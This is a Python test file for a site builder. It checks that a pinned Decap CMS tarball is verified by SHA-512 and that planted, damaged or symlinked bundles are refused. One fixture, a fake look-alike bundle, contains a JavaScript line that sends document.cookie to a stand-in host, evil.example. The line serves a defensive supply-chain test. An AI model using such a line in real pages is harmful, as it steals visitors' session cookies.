"""Decap CMS for /admin/ without Node (engine/decap_bundle.py): fetched only when asked for, as
npm's one tarball, pinned by version and SHA-512, checked on every use; a site that asks for the
editor still builds where it was never fetched, and says so once (SECURITY.md, "The browser
editor")."""
from __future__ import annotations

import io
import json
import shutil
import subprocess
import sys
import tarfile
import threading
import time
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
from conftest import NOW, ROOT, copy_fixture, decap_tarball, with_decap_bundle
from test_admin import with_admin
from test_archive import LocalServer

from engine import admin, decap_bundle
from conftest import build_site
from engine.pipeline import Paths

LEFT_OUT = ("/admin/ (the browser editor site.yaml asks for) was left out: Decap CMS 3.16.3 has "
            "not been fetched on this machine. To add it, run `make admin-files` (one download "
            "from npm, 16 MB), then build again.")


def genuine() -> bytes:
    return decap_tarball().read_bytes()


def tarball(files: dict[str, bytes]) -> bytes:
    """A .tgz laid out as npm packs one."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
        for name, data in files.items():
            member = tarfile.TarInfo(f"package/{name}")
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return stream.getvalue()


def engine_root(base: Path) -> Path:
    """Templates and static files, as in a checkout; no .cache, so no bundle."""
    root = base / "engine-root"
    for folder in ("templates", "static"):
        shutil.copytree(ROOT / folder, root / folder)
    return root


def build_in(root: Path, content: Path, out: Path, strict: bool = True):
    return build_site(Paths(root=root, content=content, overrides=root / "none"), out, NOW,
                      strict=strict)


# --- the pin ----------------------------------------------------------------------------------

def test_the_fetched_tarball_is_decap_at_the_pinned_version_and_hash():
    data = genuine()
    assert decap_bundle.integrity_of(data) == decap_bundle.INTEGRITY
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as archive:
        package = json.load(archive.extractfile("package/package.json"))
    assert (package["name"], package["version"]) == ("decap-cms", admin.DECAP_VERSION)
    # not installed by npm any more: package.json holds the test tools only
    assert "decap-cms" not in json.dumps(json.loads((ROOT / "package.json").read_text("utf-8")))
    assert "node_modules/decap-cms" not in (ROOT / "package-lock.json").read_text("utf-8")


def test_only_the_editors_files_are_published_from_the_tarball():
    names = [name for name, _ in decap_bundle.load(ROOT).files]
    assert "decap-cms.js" in names and "decap-cms.js.LICENSE.txt" in names
    assert any(name.endswith(".wasm") for name in names)
    assert not [n for n in names if n.endswith(".map") or n.endswith(".cms.js") or n.startswith("cms.")]
    assert names == sorted(names)


# --- where it was never fetched ----------------------------------------------------------------

def test_without_the_bundle_a_strict_build_leaves_admin_out_and_says_how_to_add_it(tmp_path):
    root = engine_root(tmp_path)
    content = with_admin(copy_fixture(tmp_path))
    result = build_in(root, content, tmp_path / "out")
    assert result.ok, result.failures
    assert result.left_out == [LEFT_OUT]
    assert not (tmp_path / "out" / "admin").exists()
    assert (tmp_path / "out" / "index.html").is_file()
    # the same site with the bundle: /admin/ is there, and nothing is said
    with_decap_bundle(root)
    result = build_in(root, content, tmp_path / "with")
    assert result.ok and result.left_out == []
    assert (tmp_path / "with" / "admin" / "decap-cms.js").read_bytes() == dict(
        decap_bundle.load(ROOT).files)["decap-cms.js"]


def checkout_without_node(base: Path) -> Path:
    """build.py, the engine and the real content, as a fresh clone has them: no node_modules,
    no .cache."""
    checkout = base / "checkout"
    for name in ("engine", "templates", "static", "content"):
        shutil.copytree(ROOT / name, checkout / name, ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("build.py", "netlify.toml"):
        shutil.copy(ROOT / name, checkout / name)
    return checkout


def run_build_py(checkout: Path, *args: str) -> subprocess.CompletedProcess:
    env = {"PATH": "/usr/bin:/bin", "HOME": str(checkout.parent / "home"), "LC_ALL": "C.UTF-8",
           "XDG_CACHE_HOME": str(checkout.parent / "xdg"), "PROGRESS_AFTER": "3600"}
    return subprocess.run([sys.executable, "build.py", *args], cwd=checkout, env=env,
                          capture_output=True, text=True, timeout=300)


def test_the_real_site_builds_strictly_with_python_alone_and_says_once_that_admin_was_left_out(tmp_path):
    checkout = checkout_without_node(tmp_path)
    result = run_build_py(checkout, "--strict", "--now", NOW, "--out", str(tmp_path / "site"))
    assert result.returncode == 0, result.stderr
    assert (result.stdout + result.stderr).count("/admin/") == 1
    assert result.stdout.rstrip().endswith(LEFT_OUT)
    assert (tmp_path / "site" / "index.html").is_file() and not (tmp_path / "site" / "admin").exists()


def test_serve_admin_without_the_bundle_stops_at_once_and_says_how_to_get_it(tmp_path):
    checkout = checkout_without_node(tmp_path)
    started = time.monotonic()
    result = run_build_py(checkout, "serve", "--admin", "--port", "0", "--out", str(tmp_path / "site"))
    assert result.returncode == 2
    assert result.stderr.startswith("serve --admin needs Decap CMS 3.16.3") and "`make admin`" in result.stderr
    assert not (tmp_path / "site").exists()
    assert time.monotonic() - started < 60   # it did not build first (a failure, not a benchmark)


# --- whatever else is where the bundle belongs is never published ----------------------------------

PLANTED = {
    "a look-alike": lambda: tarball({"package.json": b'{"name": "decap-cms", "version": "3.16.3"}',
                                     "dist/decap-cms.js": b"fetch('https://evil.example/'+document.cookie)"}),
    "the real one, cut short": lambda: genuine()[:5_000_000],
    "the real one, one byte changed": lambda: genuine()[:-1] + b"\0",
}


@pytest.mark.parametrize("kind", sorted(PLANTED))
def test_a_planted_or_damaged_bundle_fails_the_build_and_is_never_published(tmp_path, kind):
    root = engine_root(tmp_path)
    bundle = decap_bundle.location(root)
    bundle.parent.mkdir(parents=True)
    bundle.write_bytes(PLANTED[kind]())
    result = build_in(root, with_admin(copy_fixture(tmp_path)), tmp_path / "out", strict=False)
    assert not result.ok
    [problem] = result.failures
    assert str(problem) == (
        ".cache/vendor/decap-cms-3.16.3.tgz:1:1: this file is not Decap CMS 3.16.3 as npm publishes "
        "it (its SHA-512 differs from the pinned one), so it was not published as /admin/: delete "
        "it and run `make admin-files` to fetch Decap CMS again")
    assert not (tmp_path / "out").exists()


def test_a_symlink_where_the_bundle_belongs_is_not_followed(tmp_path):
    root = engine_root(tmp_path)
    bundle = decap_bundle.location(root)
    bundle.parent.mkdir(parents=True)
    bundle.symlink_to(decap_bundle.location(ROOT))   # even to the genuine file
    result = build_in(root, with_admin(copy_fixture(tmp_path)), tmp_path / "out")
    [problem] = result.failures
    assert problem.message.startswith("this file is not a regular file of at most 32 MB")


# --- fetching -----------------------------------------------------------------------------------

class StubRegistry(LocalServer):
    """An npm registry on 127.0.0.1 that sends `body` for any address it is asked; `endless`:
    64 MB with no length given, counting what it could send before the client hung up."""

    def __init__(self, body: bytes, endless: bool = False):
        self.asked: list[str] = []
        self.sent, self.done = 0, threading.Event()
        stub = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                stub.asked.append(self.path)
                self.send_response(200)
                if not endless:
                    self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                try:
                    for _ in range(1024 if endless else 1):
                        self.wfile.write(body)
                        stub.sent += len(body)
                except OSError:   # the client hung up
                    pass
                finally:
                    stub.done.set()

        self.listen(Handler)

    def __enter__(self) -> "StubRegistry":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


def fetch_into(root: Path, registry_url: str) -> tuple[int, list[str], list[str]]:
    said, failed = [], []
    status = decap_bundle.fetch(root, registry_url, log=said.append, fail=failed.append)
    return status, said, failed


def test_fetching_keeps_the_tarball_only_when_its_hash_is_the_pinned_one(tmp_path):
    with StubRegistry(genuine()) as registry:
        status, said, failed = fetch_into(tmp_path, registry.url)
        assert (status, failed) == (0, [])
        assert registry.asked == ["/decap-cms/-/decap-cms-3.16.3.tgz"]
        assert said == ["Fetched Decap CMS 3.16.3 (16.0 MB, SHA-512 checked) into "
                        ".cache/vendor/decap-cms-3.16.3.tgz."]
        assert decap_bundle.location(tmp_path).read_bytes() == genuine()
        # a second run checks the file and asks for nothing
        status, said, _ = fetch_into(tmp_path, registry.url)
        assert status == 0 and len(registry.asked) == 1 and "nothing fetched" in said[0]


def test_a_registry_that_sends_something_else_leaves_nothing_behind(tmp_path):
    with StubRegistry(b"<html>not a tarball</html>") as registry:
        status, said, failed = fetch_into(tmp_path, registry.url)
    assert status == 1 and said == []
    assert failed == [f"What {registry.url}/decap-cms/-/decap-cms-3.16.3.tgz sent is not Decap CMS "
                      "3.16.3 as npm publishes it (its SHA-512 differs from the pinned one). "
                      "Nothing was kept."]
    assert not (tmp_path / ".cache").exists()


def test_a_damaged_tarball_is_fetched_again_and_replaced(tmp_path):
    decap_bundle.location(tmp_path).parent.mkdir(parents=True)
    decap_bundle.location(tmp_path).write_bytes(genuine()[:1000])
    with StubRegistry(genuine()) as registry:
        status, said, _ = fetch_into(tmp_path, registry.url)
    assert status == 0 and said[0].endswith("differs from the pinned one): fetching it again.")
    assert decap_bundle.location(tmp_path).read_bytes() == genuine()


def test_a_registry_that_sends_without_end_is_cut_off(tmp_path, monkeypatch):
    monkeypatch.setattr(decap_bundle, "MAX_BYTES", 1000)
    with StubRegistry(b"x" * 65536, endless=True) as registry:
        status, _, failed = fetch_into(tmp_path, registry.url)
        assert registry.done.wait(60)
    assert status == 1 and "Nothing was kept" in failed[0]
    assert registry.sent < 16 * 1024 * 1024   # of 64 MB: the read stopped, the rest was not taken
    assert not (tmp_path / ".cache").exists()


def test_offline_the_fetch_says_so_within_seconds(tmp_path):
    started = time.monotonic()
    status, _, failed = fetch_into(tmp_path, "http://127.0.0.1:9/")
    assert status == 3
    assert failed[0].startswith("Could not reach http://127.0.0.1:9/decap-cms/-/decap-cms-3.16.3.tgz (")
    assert failed[0].endswith("Nothing was changed. The browser editor needs this one download; "
                              "the rest of the site builds without it.")
    assert time.monotonic() - started < 30   # a failure, not a benchmark
    assert not (tmp_path / ".cache").exists()


def test_a_registry_that_is_not_a_web_address_is_refused_before_anything_is_read(tmp_path):
    planted = tmp_path / "decap-cms" / "-" / "decap-cms-3.16.3.tgz"
    planted.parent.mkdir(parents=True)
    planted.write_bytes(genuine())   # even the right bytes: a local file is not a registry
    status, said, failed = fetch_into(tmp_path / "checkout", f"file://{tmp_path}/")
    assert (status, said) == (2, [])
    assert failed == [f"file://{tmp_path}/ is not a web address: give the registry as https://…, "
                      "e.g. https://registry.npmjs.org/. Nothing was changed."]
    assert not (tmp_path / "checkout").exists()


def test_the_fetch_does_not_write_through_a_symlinked_cache_folder(tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    root = tmp_path / "checkout"
    root.mkdir()
    (root / ".cache").symlink_to(elsewhere)
    with StubRegistry(genuine()) as registry:
        status, _, failed = fetch_into(root, registry.url)
    assert status == 1
    assert failed == [".cache is a symbolic link or not a plain folder: remove it, then run this "
                      "again. Nothing was kept."]
    assert list(elsewhere.iterdir()) == []


def test_fetch_admin_downloads_nothing_for_a_site_without_the_editor(tmp_path):
    checkout = checkout_without_node(tmp_path)
    site = checkout / "content" / "site.yaml"
    text = site.read_text("utf-8")
    assert "\nadmin:\n" in text
    site.write_text(text.split("\nadmin:\n")[0] + "\n", "utf-8")   # admin: is the last setting
    result = run_build_py(checkout, "fetch-admin", "--registry", "http://127.0.0.1:9/")
    assert result.returncode == 0, result.stderr
    assert result.stdout == (f"{checkout / 'content' / 'site.yaml'} has no admin: setting, so the "
                             "site has no browser editor: nothing fetched.\n")
    assert not (checkout / ".cache").exists()
